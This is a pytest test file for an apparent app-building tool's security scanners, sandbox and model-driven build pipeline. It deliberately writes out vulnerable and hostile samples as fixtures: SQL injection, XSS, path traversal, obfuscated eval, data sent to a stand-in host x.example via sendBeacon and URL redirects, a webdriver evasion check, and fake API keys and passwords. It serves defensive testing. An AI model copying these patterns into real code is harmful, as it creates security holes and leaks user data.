"""Apps: checks in plain words, what gets past them, and the way from a description to a project."""

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from decimal import ROUND_CEILING, ROUND_FLOOR, ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geist.apps import packages, page, scan_page, scan_python, scan_secrets, service, tool
from geist.apps.building import Building
from geist.apps.checking import KINDS, Check, Expect, Kind, NotUnderstood, Step, alike, parse
from geist.apps.describe import read
from geist.apps.eject import eject
from geist.apps.fit import fitted
from geist.apps.judge import Bench, Judge
from geist.apps.kinds import pick
from geist.apps.made import task_of
from geist.apps.plan import Field, Plan, Route
from geist.apps.running import Given, Served, program
from geist.apps.scan_page import broken
from geist.apps.shapes import SHAPES
from geist.apps.shapes.shape import plumbing
from geist.apps.store import Apps, Version
from geist.apps.uses import used
from geist.canvas.browser import Browser
from geist.core.errors import GeistError
from geist.core.home import home
from geist.core.output import Text
from geist.core.verdict import Status
from geist.sandbox.bubblewrap import Bubblewrap, available
from geist.verify.strict import Unreadable
from tests.conftest import Scripted
from tests.nursery import run
from tests.test_live import Terminal

BIN = Path(sys.executable).parent


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as one:
        yield one


# the language of checks

words = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=12)
named = words.map(str.strip).filter(bool)
numbers = st.integers(-999, 999).map(str)
PARTS = {
    "page": (
        st.one_of(
            st.builds(Step, st.just("set"), named, words),
            st.builds(Step, st.just("press"), named),
            st.just(Step("reload")),
            st.builds(Step, st.just("wait"), st.just(""), st.just("2")),
        ),
        st.one_of(
            st.builds(Expect, st.just("is"), named, words),
            st.builds(Expect, st.just("seen"), named),
            st.builds(Expect, st.just("unseen"), named),
            st.builds(Expect, st.just("between"), named, numbers, numbers),
        ),
    ),
    "service": (
        st.builds(
            lambda m, p, b: Step("request", f"{m} {p}", b),
            st.sampled_from(("GET", "POST")),
            st.just("/books/{id}"),
            st.sampled_from(("", '{"title": "a; b → c"}')),
        ),
        st.one_of(
            st.builds(Expect, st.just("is"), named, words),
            st.builds(Expect, st.just("header"), st.just("location"), named),
        ),
    ),
    "tool": (
        st.one_of(
            st.builds(
                Step,
                st.just("file"),
                named.map(lambda n: n.replace("/", "").replace("~", "").strip(" .") or "a"),
                words,
            ),
            st.builds(Step, st.just("input"), st.just(""), words),
            st.just(Step("run", value="a.txt --top 3")),
        ),
        st.one_of(
            st.builds(Expect, st.just("exactly"), st.just(""), words),
            st.builds(Expect, st.just("lacks"), st.just(""), words),
            st.just(Expect("fails")),
            st.just(Expect("ends", value="2")),
        ),
    ),
}


@given(st.data(), st.sampled_from(KINDS[:3]))
def test_a_check_is_what_its_words_say(chosen: st.DataObject, kind: Kind) -> None:
    steps, expects = PARTS[kind]
    check = Check(tuple(chosen.draw(st.lists(steps, min_size=1, max_size=4))),
                  tuple(chosen.draw(st.lists(expects, min_size=1, max_size=3))))  # fmt: skip
    assert parse(check.line, kind) == check


@given(st.text(max_size=80), st.sampled_from(KINDS))
def test_any_line_is_a_check_or_is_told(line: str, kind: Kind) -> None:
    try:
        made = parse(line, kind)
    except NotUnderstood as e:
        assert e.why and e.mend
    else:
        assert made.expects


def test_values_are_compared_as_a_person_does() -> None:
    assert (
        alike("$1,060.00", "1060")
        and alike("60 %", "60")
        and alike(" Yes ", "yes")
        and alike("-3", "−3")
    )
    assert (
        not alike("61", "60")
        and not alike("60 kg", "60")
        and not alike("", "0")
        and not alike("10.5", "10")
    )


# what models write: plans, examples, checks, code


@settings(max_examples=150)
@given(st.text(max_size=200), st.sampled_from(KINDS[:3]))
def test_any_plan_is_read_or_refused(text: str, kind: Kind) -> None:
    for reader in (lambda: read(text, kind, ""), lambda: used(text, kind)):
        with pytest.raises((Unreadable, KeyError, TypeError, AttributeError, ValueError)):
            reader()
            raise ValueError


json_like = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
)


@settings(max_examples=150)
@given(
    st.fixed_dictionaries(
        {
            "title": json_like,
            "shape": st.sampled_from(("form", "list", "buttons")),
            "inputs": st.lists(
                st.fixed_dictionaries(
                    {
                        "label": st.text(max_size=12),
                        "kind": st.sampled_from(("number", "text", "choice")),
                        "options": st.lists(json_like, max_size=3),
                    }
                ),
                max_size=3,
            ),
            "buttons": st.lists(json_like, max_size=3),
            "outputs": st.lists(st.text(max_size=9), max_size=3),
        }
    )
)
def test_any_plan_of_the_form_makes_a_page_that_can_be_read(told: dict) -> None:
    plan = read(json.dumps(told), "page", "x")
    code = {
        "form": "function compute() { return {}; }",
        "list": "function add(i) { return i; }\nfunction summary(i) { return {}; }\nfunction act() {}",
        "buttons": "function begin() { return {}; }\nfunction press(b, s) { return s; }\nfunction show(s) { return {}; }",
    }
    source = SHAPES[plan.shape].build(plan, code[plan.shape])
    assert broken(source) == "" and not list(scan_page.scan(source))
    assert SHAPES[plan.shape].ask(plan)


# pages

TIP = Plan(
    "page",
    "form",
    "Tip",
    "",
    (Field("Bill", "number"), Field("Tip percent", "number")),
    ("Total",),
    ("Split",),
)
TIP_CODE = (
    "function compute(bill, tip_percent) { return {'Total': bill * (1 + tip_percent / 100)}; }"
)
TIP_CHECK = "Bill is 50; Tip percent is 20; press Split → Total is 60"
LIST = Plan(
    "page",
    "list",
    "Shop",
    "",
    (Field("Item"), Field("Price", "number")),
    ("Items", "Sum"),
    ("Add", "Done"),
)
LIST_CODE = """function add(item, items) { return item; }
function summary(items) { return {"Items": items.length, "Sum": items.reduce((s, i) => s + i.price, 0)}; }
function act(button, item, items) { item.done = true; }"""
SCORE = Plan("page", "buttons", "Score", "", (), ("Red",), ("Red +1", "Red -1"))
SCORE_CODE = """function begin() { return {red: 0}; }
function press(button, state) { return {red: state.red + (button === "Red +1" ? 1 : -1)}; }
function show(state) { return {"Red": state.red}; }"""
PAGE = """<!doctype html><html lang="en"><head><title>T</title><style>:root { color-scheme: light dark }</style></head><body>
<h1>T</h1><label>Name <input id="name"></label> <button id="go">Go</button><p id="out"></p><script>
document.getElementById('go').addEventListener('click', () => { SCRIPT });</script></body></html>"""


@pytest.mark.parametrize(
    ("plan", "code", "checks"),
    [
        (
            TIP,
            TIP_CODE,
            [TIP_CHECK, 'Bill is x; Tip percent is 1; press Split → "Bill must be" is seen'],
        ),
        (
            LIST,
            LIST_CODE,
            [
                "Item is tea; Price is 2; press Add; Item is milk; Price is 1.5; press Add → Items is 2; Sum is 3.5",
                "Item is tea; Price is 2; press Add; press Remove → Items is 0",
                'Item is tea; Price is 2; press Add; reload → Items is 1; "tea" is seen',
                "Item is tea; Price is 2; press Add; press Done → done is yes",
            ],
        ),
        (SCORE, SCORE_CODE, ["press Red +1; press Red +1; press Red -1 → Red is 1"]),
    ],
)
def test_the_shapes_of_pages_pass_everything(
    plan: Plan, code: str, checks: list[str], browser: Browser
) -> None:
    source = SHAPES[plan.shape].build(plan, code)
    assert Judge(Bench(browser, {})).judge(source, "page", [parse(c, "page") for c in checks]) == (
        [],
        len(checks),
    )


@pytest.mark.parametrize(
    ("script", "stage", "what"),
    [
        (
            "document.getElementById('out').textContent = 'Length: ' + document.getElementById('name').value.length",
            "",
            "",
        ),
        (
            "document.getElementById('out').textContent = 'Half: ' + Number(document.getElementById('name').value) / 2",
            "tried",
            "NaN",
        ),
        (
            "const n = document.getElementById('name').value; document.getElementById('out').append(...new DOMParser().parseFromString(n, 'text/html').body.childNodes)",
            "attacked",
            "markup",
        ),
        (
            "document.getElementById('out').textContent = JSON.parse(document.getElementById('name').value)",
            "tried",
            "script error",
        ),
        (
            "const p = document.createElement('pre'); p.textContent = document.getElementById('name').value; document.body.append(p)",
            "tried",
            "wider",
        ),
        (
            "document.getElementById('out').innerHTML = document.getElementById('name').value",
            "safe",
            "markup",
        ),
        ("navigator['send' + 'Beacon']('https://x.example', 'a')", "safe", "name that is made"),
        (
            "location.href = 'https://x.example/?' + document.getElementById('name').value",
            "safe",
            "address",
        ),
    ],
)
def test_what_is_wrong_with_a_page_is_found(
    script: str, stage: str, what: str, browser: Browser
) -> None:
    found, _ = Judge(Bench(browser, {})).judge(PAGE.replace("SCRIPT", script), "page", [])
    assert {f.stage for f in found} == ({stage} if stage else set())
    assert not what or any(what in f.what for f in found), found


def test_a_page_reaches_nothing_when_it_gets_past_the_scan(browser: Browser) -> None:
    source = PAGE.replace("SCRIPT", "").replace(
        "<p id", '<div style="background: u\\72l(https://x.example/a.png)">x</div><p id'
    )
    with page.opened(browser, source) as one:
        one.opened.page.wait_for_timeout(200)
        assert not [h for h in one.opened.heard if h[0] == "request"]


# programs

DUPS = """# /// script
# requires-python = ">=3.11"
# dependencies = []
# ///
import argparse, sys
parser = argparse.ArgumentParser()
parser.add_argument("file")
told = parser.parse_args()
try:
    text = open(told.file, encoding="utf-8").read()
except (OSError, UnicodeDecodeError) as e:
    sys.exit(f"dups: {told.file} cannot be read: {type(e).__name__}")
BODY
"""
GOOD = "print(len(text.splitlines()))"
DUPS_CHECK = 'a.txt holds "x\\ny\\n"; run a.txt → prints exactly "2"'


@pytest.mark.parametrize(
    ("body", "stage", "what"),
    [
        (GOOD, "", ""),
        ("print(len(text.splitlines()) or 1 / 0)", "tried", "ZeroDivisionError"),
        (GOOD + "\nopen('notes.log', 'w').write(text)", "attacked", "notes.log"),
        (GOOD + "\nopen(told.file, 'w').write('')", "attacked", "a.txt"),
        (
            GOOD
            + "\nimport tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.csv') as f: f.write(text)",
            "",
            "",
        ),
        (
            GOOD
            + "\nimport tempfile\nopen(tempfile.gettempdir() + '/all-texts.log', 'a').write(text)",
            "attacked",
            "all-texts.log",
        ),
        (
            GOOD
            + "\nimport csv\nn = [f for f in csv.DictReader(text.splitlines()).fieldnames if f]",
            "tried",
            "TypeError",
        ),
        (
            GOOD + "\nimport pathlib\npathlib.Path('/geist/data/x').write_text('')",
            "attacked",
            "/geist/data/x",
        ),
        (GOOD + "\nwhile not text: pass", "tried", "time"),
        ("print(3)", "checks", "printed '3'"),
        (GOOD + "\nimport urllib.request", "safe", "network"),
        (GOOD + "\nfrom os import system as s\ns('ls')", "safe", "runs other programs"),
        (GOOD + "\ngetattr(__builtins__, 'ev' + 'al')(text)", "safe", "way round"),
        (GOOD + "\nimport no_such_library_at_all", "safe", "neither"),
        (GOOD + "\nprnt(text)", "lint", "prnt"),
        (GOOD + "\nKEY = 'sk-" + "proj-abcdefghij0123456789abcd'", "safe", "key"),
        (GOOD + "\nif", "parses", "Python"),
    ],
)
def test_what_is_wrong_with_a_program_is_found(body: str, stage: str, what: str) -> None:
    found, _ = Judge(Bench(None, {})).judge(
        DUPS.replace("BODY", body), "tool", [parse(DUPS_CHECK, "tool")]
    )
    assert {f.stage for f in found} == ({stage} if stage else set()), found
    assert not what or any(what in f.what for f in found), found


def test_a_program_reaches_only_what_it_was_given(tmp_path: Path, sandbox: Bubblewrap) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("mine")
    server = socket.create_server(("127.0.0.1", 0))
    app = tmp_path / "app.py"
    app.write_text(f"""import socket
for work in (lambda: open({str(secret)!r}).read(), lambda: open({str(Path.home() / ".bashrc")!r}).read(),
             lambda: socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), 2)):
    try:
        print("got", work())
    except OSError as e:
        print("no", type(e).__name__)
print(open("given.txt").read())
""")  # fmt: skip
    ran = program(app, Given((), {"given.txt": b"yours"}), sandbox=sandbox)
    assert "got" not in ran.stdout and "yours" in ran.stdout
    assert any(h.kind == "network" for h in ran.heard)
    server.close()


@pytest.mark.parametrize("name", ["name", "name.removesuffix('.txt') + '.txt'"])
def test_a_name_that_leads_out_is_followed_nowhere(name: str) -> None:
    body = f"""import os
for line in text.splitlines():
    name, _, what = line.partition(":")
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    open({name}, "w").write(what)"""
    checks = [parse('a.txt holds "out.txt:hello\\n"; run a.txt → prints exactly ""', "tool")]
    found, met = Judge(Bench(None, {})).judge(DUPS.replace("BODY", body), "tool", checks)
    assert met == 1 and any("/geist/data/out" in f.what for f in found), found


# services

BOOKS = Plan(
    "service",
    "records",
    "Books",
    "",
    (Field("title"), Field("year", "integer", least=0, most=2100)),
    resource="books",
    filters=("title",),
    routes=(Route("GET", "/books/stats"), Route("POST", "/books/{id}/lend")),
)
BOOKS_CODE = """def prepare(item, items):
    return item

def get_books_stats(items, data):
    return {"count": len(items)}

def post_books_one_lend(items, item, data):
    if item["lent"]:
        return Refused(409, "lent already")
    item["lent"] = True"""
BOOKS_CHECKS = [
    'POST /books {"title": "Emma", "year": 1815}; GET /books/{id} → status is 200; title is Emma',
    'POST /books {"title": "Emma", "year": 1815}; POST /books/1/lend; POST /books/1/lend → status is 409',
    'POST /books {"title": "Emma", "year": "x"} → status is 422; "year" is seen',
    'POST /books {"title": "Emma", "year": 1815}; GET /books/stats → count is 1',
    'POST /books {"title": "Emma", "year": 1815}; GET /books?title=Nana → length is 0',
]
RAW = """# /// script
# dependencies = ["starlette==1.3.1"]
# ///
import json, os, sqlite3
from html import escape
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, JSONResponse
from starlette.routing import Route
db = sqlite3.connect(os.path.join(os.environ["APP_DATA"], "data.db"))
db.execute("CREATE TABLE IF NOT EXISTS notes (text TEXT)")
async def add(request):
    try:
        text = str((await request.json())["text"])
    except (ValueError, TypeError, KeyError):
        return JSONResponse({}, 422)
    db.execute("INSERT INTO notes VALUES (?)", (text.encode("utf-8", "replace").decode(),))
    db.commit()
    return JSONResponse({}, 201)
async def many(request):
    q = request.query_params.get("q", "")
    BODY
def described(request):
    return JSONResponse({"openapi": "3.0.3", "info": {"title": "n", "version": "1"}, "paths": {"/notes": {
        "get": {"parameters": [{"name": "q", "in": "query", "schema": {"type": "string"}}], "responses": {"200": {"description": "ok"}}}}}})
app = Starlette(routes=[Route("/notes", add, methods=["POST"]), Route("/notes", many), Route("/openapi.json", described)])
"""
SAFE_QUERY = (
    'return JSONResponse([r[0] for r in db.execute("SELECT text FROM notes WHERE text = ?", (q,))])'
)


def test_the_shape_of_services_passes_everything() -> None:
    source = SHAPES["records"].build(BOOKS, BOOKS_CODE)
    checks = [parse(c, "service") for c in BOOKS_CHECKS]
    assert Judge(Bench(None, {})).judge(source, "service", checks) == ([], len(checks))


def test_what_is_listed_and_in_which_order_is_up_to_a_function() -> None:
    plan = replace(
        BOOKS, description="GET /books lists the newest first", filters=("title", "most"), routes=()
    )
    code = """def prepare(item, items):
    item["id"] = len(items)  # which another one has
    items.append(item)
    return item

def listed(items, data):
    return sorted(items, key=lambda i: -i["year"])[:int(data.get("most", 10))]"""
    two = 'POST /books {"title": "a", "year": 1}; POST /books {"title": "b", "year": 2}; '
    checks = [
        two + "GET /books → length is 2; 0.title is b; 0.id is 2",
        two + "GET /books?most=1 → length is 1",
    ]
    source = SHAPES["records"].build(plan, code)
    found = Judge(Bench(None, {})).judge(source, "service", [parse(c, "service") for c in checks])
    assert found == ([], 2) and "def listed" in SHAPES["records"].ask(plan)


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (SAFE_QUERY, ""),
        (
            "return JSONResponse([r[0] for r in db.execute('SELECT text FROM notes WHERE text = \\'' + q + '\\'')])",
            "sql",
        ),
        ("return HTMLResponse('<html><body>' + q + '</body></html>')", "xss"),
        ("return JSONResponse(open(q or '/geist/app/app.py').read()[:50])", "traversal"),
        ("return JSONResponse(int(q or 1))", "fuzz"),
        (
            "return HTMLResponse(''.join(f'<a href=\"{escape(r[0])}\">x</a>' for r in db.execute('SELECT text FROM notes')))",
            "xss",
        ),
        (
            "return JSONResponse([{'text': r[0], 'salt': 'a1'} for r in db.execute('SELECT text FROM notes')])",
            "leak",
        ),
    ],
)
def test_a_service_is_fuzzed_and_attacked(body: str, what: str, tmp_path: Path) -> None:
    """Without the scan of its source, which would find most of these before."""
    app = tmp_path / "app.py"
    app.write_text(RAW.replace("BODY", body))
    with Served(app) as served:
        assert service.begins(served) == []
        found = list(
            service.tried(
                served,
                [parse('POST /notes {"text": "a"}; GET /notes?q=a → status is 200', "service")],
            )
        )
    assert (what in {f.rule for f in found}) if what else not found, found


def test_a_service_begins_anew_and_has_no_network(tmp_path: Path) -> None:
    app = tmp_path / "app.py"
    app.write_text(RAW.replace("BODY", SAFE_QUERY))
    one = parse('POST /notes {"text": "a"}; GET /notes?q=a → length is 1', "service")
    with Served(app) as served:
        assert service.check(served, one) == "" == service.check(served, one)


# the scans, on what a test of the whole would pass by


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import sqlite3\ndef f(db, n):\n    db.execute(f'SELECT {n}')", "sql"),
        (
            "import sqlite3\nCOLUMNS = {'a': 'name'}\ndef f(db, n):\n    db.execute(f'SELECT {COLUMNS[n]} FROM t WHERE x = ?', (n,))",
            "",
        ),
        (
            "def f(db, n):\n    where = []\n    if n:\n        where.append('n = ?')\n    db.execute('SELECT 1 WHERE ' + ' AND '.join(where), [n])",
            "",
        ),
        (
            "def f(db, n):\n    if n not in ('a', 'b'):\n        return\n    db.execute('SELECT ' + n)",
            "",
        ),
        ("def g(db, w):\n    db.execute('SELECT 1 ' + w)\ndef f(db, n):\n    g(db, n)", "sql"),
        (
            "C = {'a': f(), 'b': 2}\ndef f(db, n):\n    s = ', '.join(f'{c} = ?' for c in C if c in n)\n    db.execute(f'UPDATE t SET {s}', n)",
            "",
        ),
        (
            "T = ('a', 'b')\ndef f(db, n):\n    for t, v in zip(T, n):\n        db.execute(f'INSERT INTO {t} VALUES (?)', (v,))",
            "",
        ),
        ("def f(db, n):\n    for t, v in zip(n, n):\n        db.execute(f'SELECT {t}', v)", "sql"),
        (
            "import secrets\ndef f(body):\n    name = secrets.choice(body)\n    open('/a/' + name, 'w').write('')",
            "path",
        ),
        (
            "SEEN = {}\ndef f(db, n):\n    SEEN[n] = 1\n    for t in SEEN:\n        db.execute(f'SELECT {t}')",
            "sql",
        ),
        ("def make(shell):\n    return shell\nmake(shell=True)", ""),
        ("import codecs\nK = codecs.decode('uryyb', 'rot_13')", "secret"),
        ("import pydoc\nf = pydoc.locate", "command"),
        (
            "K = '_'.join(('sk', 'live', 'a1b2c3d4e5f6g7h8'))\nL = ', '.join(['sk', 'live'])",
            "secret",
        ),
        ("def f(root, key):\n    return root.joinpath(*key.split(':'))", "path"),
        (
            "import secrets\nROOT = '/a'\ndef f(body):\n    name = secrets.token_hex(8)\n    open(ROOT + '/' + name, 'w').write(body)",
            "",
        ),
        ("import pickle", "unpack"),
        ("import os\np = os\np.getcwd()", "eval"),
        ("import subprocess  # nosec\nsubprocess.run('ls', shell=True)  # nosec", "command"),
        ("f = eval", "eval"),
        ("import importlib\nimportlib.import_module('x')", "eval"),
        ("import asyncio\nasyncio.open_connection('x', 1)", "network"),
        ("().__class__.__mro__[1].__subclasses__()", "eval"),
        ("import os\nprint(os.environ['APP_DATA'])", ""),
        ("import os\nprint(dict(os.environ))", "leak"),
        ("import ast\nprint(ast.literal_eval('[1]'))", ""),
        ("import hashlib\nprint(hashlib.sha256(b'x'))", ""),
    ],
)
def test_python_is_scanned(source: str, rule: str) -> None:
    found = {f.rule for f in scan_python.scan(source, True)}
    assert (rule in found) if rule else not found, found


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("document.body.innerHTML = '<p>' + 1 + '</p>'", ""),
        ("document.body.innerHTML = `<p>${x}</p>`", "xss"),
        (
            "const esc = s => s.replace(/&/g, '&amp;'); document.body.innerHTML = `<p>${esc(x)}</p>`",
            "",
        ),
        ("setTimeout('go()', 1)", "eval"),
        ("setTimeout(() => 1, 1)", ""),
        ("(() => 1).constructor('return 1')()", "eval"),
        ("new Image().src = u", "network"),
        ("a.href = 'https://x.example'", ""),
        ("window['ev' + 'al'](x)", "eval"),
        ("d['inner' + 'HTML'] = x", "eval"),
        ("d[['inner', 'HTML'].join('')] = x", "eval"),
        ("d[list.indexOf(x)] = x", ""),
        ("Object.assign(d, {[{rich: 'innerHTML'}[k]]: x})", "xss"),
        ("if (!navigator.webdriver) go()", "eval"),
        ("document.createElement('scr' + 'ipt')", "frame"),
        ("const make = t => document.createElement(t); make('p')", ""),
        ("const password = document.getElementById('password').value", ""),
    ],
)
def test_scripts_are_scanned(script: str, rule: str) -> None:
    found = {f.rule for f in scan_page.scan(f"<p>x</p><script>{script}</script>")}
    assert (rule in found) if rule else not found, found


def test_keys_are_found_and_words_are_not() -> None:
    for text in (
        "AKIA" + "IOSFODNN7EXAMPLE",
        "password = 'tr0ub4dor&3'",
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "postgres://me:" + "hunter2@db.example/x",
    ):
        assert list(scan_secrets.scan(f"x = '{text}'" if "=" not in text else text)), text
    for text in (
        "label = 'Password'",
        "placeholder = 'Enter your password'",
        "color = '#1a56b0'",
        "token = request.query_params['token']",
        "API_KEY = ''",
    ):
        assert not list(scan_secrets.scan(text)), text


# plans that fit what was agreed


def test_a_plan_has_all_that_the_checks_name() -> None:
    plan = fitted(
        Plan("page", "form", "T", "", (Field("Total", "number"),)), [parse(TIP_CHECK, "page")]
    )
    assert (
        [f.label for f in plan.inputs] == ["Bill", "Tip percent"]
        and plan.buttons == ("Split",)
        and plan.outputs == ("Total",)
    )
    told = fitted(
        Plan("tool", "program", "t", "", ()),
        [parse('a.txt holds "x"; run a.txt --top 3 --all → prints "x"', "tool")],
    )
    assert [(f.kind, f.flag) for f in told.inputs] == [
        ("file", ""),
        ("integer", "--top"),
        ("yesno", "--all"),
    ]
    alone = Plan("tool", "program", "t", "With --all.", (Field("all", "text", flag="--all"),))
    told = fitted(alone, [parse('input is "x"; run --all → prints "x"', "tool")])
    assert [(f.kind, f.flag) for f in told.inputs] == [("yesno", "--all")] and told.stdin
    made = fitted(
        Plan("service", "records", "t", "", (), resource="x"),
        [parse(c, "service") for c in BOOKS_CHECKS],
    )
    assert (
        made.resource == "books"
        and made.filters == ("title",)
        and {r.path for r in made.routes} == {"/books/stats", "/books/{id}/lend"}
    )


# from a description to a project, by the program itself, with a scripted model

PLAN = json.dumps(
    {
        "title": "lines",
        "arguments": [
            {
                "label": "FILE",
                "kind": "file",
                "options": [],
                "flag": "",
                "required": True,
                "default": "",
            }
        ],
        "stdin": False,
    }
)
RUN = "```python\ndef run(text):\n    return str(len(text.splitlines()))\n```"
WRONG = "```python\ndef run(text):\n    return '7'\n```"


def geist(where: Path, *argv: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    return run(where, *argv, stdin=stdin, PATH=f"{BIN}{os.pathsep}{os.environ['PATH']}")


def test_a_tool_is_made_mended_confirmed_run_changed_ejected_and_discarded(
    tmp_path: Path, model_server: Scripted
) -> None:
    model_server.script = [PLAN, WRONG, RUN, RUN.replace("str(", "'' + str(")]
    check = ("--check", DUPS_CHECK)
    made = geist(
        tmp_path,
        "make",
        "a command-line tool that counts the lines of FILE",
        *check,
        "--model",
        model_server.url,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    assert "✓ verified: 1 check," in made.stdout and "do the same (2 versions)" in made.stdout
    # what came back is what a person would see
    assert (
        "it printed '7' where '2' was expected"
        in model_server.requests[2]["messages"][-1]["content"]
    )
    listed = geist(tmp_path, "apps")
    assert "network: none" in listed.stdout and "7 days left" in listed.stdout
    (tmp_path / "x.txt").write_text("a\nb\nc\n")
    assert geist(tmp_path, "apps", "run", "last", "x.txt").stdout == "3\n"
    assert geist(tmp_path, "apps", "run", "last", "gone.txt").returncode == 2
    model_server.script = [
        PLAN,
        RUN.replace("str(len(text.splitlines()))", "f'{len(text.splitlines())} lines'"),
    ]
    changed = geist(
        tmp_path,
        "apps",
        "change",
        "last",
        "say the word lines",
        "--without",
        "1",
        "--check",
        'a.txt holds "x\\n"; run a.txt → prints exactly "1 lines"',
        "--model",
        model_server.url,
    )
    assert changed.returncode == 0, changed.stdout + changed.stderr
    assert geist(tmp_path, "apps", "run", "last", "x.txt").stdout == "3 lines\n"
    assert geist(tmp_path, "apps", "keep", "last").returncode == 0
    assert "kept" in geist(tmp_path, "apps").stdout
    assert geist(tmp_path, "apps", "eject", "last", "out").returncode == 0
    assert "is there already" in geist(tmp_path, "apps", "eject", "last", "out").stderr
    tests = subprocess.run(
        [sys.executable, "-m", "pytest", "-q"],
        cwd=tmp_path / "out",
        capture_output=True,
        text=True,
        timeout=100,
        check=False,
    )
    assert "1 passed" in tests.stdout, tests.stdout
    assert geist(tmp_path, "apps", "discard", "last").returncode == 0
    assert "no apps yet" in geist(tmp_path, "apps").stdout
    log = "".join(f.read_text() for f in (home() / "sessions").glob("*.jsonl"))
    assert all(word in log for word in ('"kept"', '"ejected"', '"discarded"'))


def test_what_fails_is_offered_marked_or_not_at_all(tmp_path: Path, model_server: Scripted) -> None:
    model_server.script = [PLAN, WRONG]
    told = (
        "make",
        "a tool that counts the lines of FILE",
        "--check",
        DUPS_CHECK,
        "--effort",
        "low",
        "--model",
        model_server.url,
    )
    made = geist(tmp_path, *told)
    assert made.returncode == 1 and "NOT VERIFIED" in made.stdout and "✗ a.txt holds" in made.stdout
    model_server.script = [PLAN, WRONG]
    assert geist(tmp_path, *told, "--or-nothing").returncode == 1
    assert len(Apps(home()).all()) == 1


def test_versions_that_differ_are_told(tmp_path: Path, model_server: Scripted) -> None:
    other = "```python\ndef run(text):\n    return '2'\n```"
    model_server.script = [PLAN, RUN, other]
    made = geist(
        tmp_path,
        "make",
        "a tool that counts the lines of FILE",
        "--check",
        DUPS_CHECK,
        "--model",
        model_server.url,
    )
    assert made.returncode == 1 and "NOT CONFIRMED" in made.stdout, made.stdout + made.stderr


def test_a_whole_file_is_judged_as_a_strong_model_writes_it(
    tmp_path: Path, model_server: Scripted
) -> None:
    whole = SHAPES["form"].build(TIP, TIP_CODE)
    plan = json.dumps(
        {"title": "Tip", "shape": "form", "inputs": [], "buttons": ["Split"], "outputs": []}
    )
    model_server.script = [
        plan,
        f"```html\n{whole.replace('textContent = text', 'innerHTML = text')}\n```",
        f"```html\n{whole}\n```",
    ]
    made = geist(
        tmp_path,
        "make",
        "a page that splits a bill",
        "--freely",
        "--check",
        TIP_CHECK,
        "--model",
        model_server.url,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    assert "innerHTML makes markup" in model_server.requests[2]["messages"][-1]["content"]
    kept = Apps(home()).all()[0]
    assert (
        "connect-src" not in Apps(home()).page(kept).read_text()
        and "default-src 'none'" in Apps(home()).page(kept).read_text()
    )


def test_a_script_reads_the_files_it_was_made_for(tmp_path: Path, model_server: Scripted) -> None:
    (tmp_path / "sales.csv").write_text("region,amount\nnorth,3\nsouth,4\nnorth,5\n")
    model_server.script = [
        "```python\ndef run(sales):\n    return '\\n'.join(sorted({r['region'] for r in sales}))\n```"
    ]
    made = geist(
        tmp_path,
        "make",
        "the regions, sorted",
        "sales.csv",
        "--check",
        'run → prints exactly "north\\nsouth"',
        "--model",
        model_server.url,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    assert made.stdout.rstrip().endswith("north\nsouth") and "reads sales.csv" in made.stdout


def test_a_service_is_served_and_keeps_what_it_was_told(tmp_path: Path) -> None:
    import httpx

    source = SHAPES["records"].build(BOOKS, BOOKS_CODE)
    kept = Apps(home()).add(
        "service", "Books", "books", (), BOOKS.plain(), Version("books", (), time.time()), source
    )
    for count in (1, 2):
        running = subprocess.Popen(
            [str(BIN / "geist"), "apps", "run", kept.name],
            stdout=subprocess.PIPE,
            text=True,
            env=dict(os.environ),
        )
        assert running.stdout is not None
        url = running.stdout.readline().split()[0]
        assert url.startswith("http://127.0.0.1:")
        assert (
            httpx.post(
                f"{url}/books", json={"title": "Emma", "year": 1815}, trust_env=False
            ).status_code
            == 201
        )
        assert len(httpx.get(f"{url}/books", trust_env=False).json()) == count
        running.send_signal(2)
        assert running.wait(20) == 0


def test_a_bug_is_traced_until_it_is_mended(project: Path, model_server: Scripted) -> None:
    good = "```python\nfrom shop.cart import Cart\ngot = Cart([1, 2, 3]).total(2)\nassert got == 5, f'got {got}, should be 5'\n```"
    model_server.script = ["```python\nassert False, 'got nothing, should be something'\n```", good]
    made = geist(
        project,
        "make",
        "--trace",
        "the total leaves out what costs just the least",
        "--model",
        model_server.url,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    assert (
        "ends with  AssertionError: got 3, should be 5" in made.stdout
        and "cart.py:Cart.total" in made.stdout
    )
    assert geist(project, "apps", "run", "last").returncode == 1
    cart = project / "shop" / "cart.py"
    cart.write_text(cart.read_text().replace("p > least", "p >= least"))
    assert "does not show any more" in geist(project, "apps", "run", "last").stdout


@pytest.mark.parametrize(
    ("argv", "what"),
    [
        (("make",), "no app was described"),
        (("make", "a page", "--kind", "poem"), "no kind"),
        (("make", "x", "--kind", "script"), "needs the files"),
        (("make", "x", "gone.csv"), "there is no file"),
        (("make", "a page that adds", "--check", "so be it"), "cannot be understood"),
        (("make", "a page that adds", "--effort", "much"), "makes no sense"),
        (("apps", "run", "nothing"), "there is no app"),
        (("apps", "change", "last", ""), "no change"),
    ],
)
def test_misuse_is_told(argv: tuple[str, ...], what: str, tmp_path: Path) -> None:
    told = geist(tmp_path, *argv)
    assert told.returncode == 2 and what in told.stderr, told.stderr


def test_apps_vanish_after_a_week_unless_they_are_kept() -> None:
    store = Apps(home())
    for title in ("one", "two"):
        store.add("tool", title, title, (), {}, Version(title, (), 0.0), DUPS)
    store.keep(store.find("two"))
    assert [a.title for a in store.sweep(8 * 86_400.0)] == ["one"] and [
        a.title for a in store.all()
    ] == ["two"]
